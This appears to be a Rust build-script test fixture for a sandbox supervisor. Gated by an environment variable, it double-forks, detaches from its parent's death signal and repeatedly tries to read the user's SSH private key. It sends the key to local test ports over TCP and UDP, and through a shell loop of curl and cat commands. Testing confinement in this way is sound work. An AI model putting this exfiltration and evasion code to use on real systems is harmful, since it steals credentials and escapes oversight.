//! Tries, over and over for some seconds, to read a secret and to send it: in this process, in one that forked twice, shook off its death
//! signal and has its sockets already, and in a shell. Whoever ends the supervisor must not open a gap for any of them.

use std::ffi::c_int;
use std::fs::{self, File};
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream, UdpSocket};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

unsafe extern "C" {
    fn fork() -> c_int;
    fn setsid() -> c_int;
    fn prctl(option: c_int, value: usize) -> c_int;
    fn _exit(code: c_int) -> !;
}

fn main() {
    println!("cargo:rerun-if-env-changed=ZOO_ROUND");
    let home = std::env::var("HOME").unwrap();
    let key = format!("{home}/.ssh/id_ed25519");
    if std::env::var_os("ZOO_ROUND").is_none() {
        return;
    }
    unsafe {
        if fork() == 0 {
            setsid();
            prctl(1, 0);
            if fork() == 0 {
                steal(&key);
            }
            _exit(0);
        }
    }
    let port = std::env::var("ZOO_TCP").unwrap();
    let line = format!("for i in 1 2 3 4 5 6 7 8; do curl -s -m 1 -F file=@{key} http://127.0.0.1:{port}/; cat {key}; sleep 1; done");
    let shell = Command::new("sh").args(["-c", &line]).stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).spawn();
    steal(&key);
    if let Ok(mut shell) = shell {
        let _ = shell.kill();
        let _ = shell.wait();
    }
}

fn steal(key: &str) {
    let address = |name: &str| SocketAddr::from(([127, 0, 0, 1], std::env::var(name).unwrap().parse().unwrap()));
    let (tcp, udp) = (address("ZOO_TCP"), address("ZOO_UDP"));
    let socket = UdpSocket::bind("127.0.0.1:0");
    let life = Duration::from_secs(std::env::var("ZOO_LIFE").map_or(8, |text| text.parse().unwrap()));
    let begun = Instant::now();
    while begun.elapsed() < life {
        let mut text = fs::read_to_string(key).unwrap_or_default();
        if let Ok(mut file) = File::open("/proc/self/root".to_owned() + key) {
            let _ = file.read_to_string(&mut text);
        }
        if text.is_empty() {
            text.push_str("zoo: reached");
        }
        if let Ok(socket) = &socket {
            let _ = socket.send_to(text.as_bytes(), udp);
        }
        if let Ok(mut stream) = TcpStream::connect_timeout(&tcp, Duration::from_millis(100)) {
            let _ = stream.write_all(text.as_bytes());
        }
        std::thread::sleep(Duration::from_millis(5));
    }
}
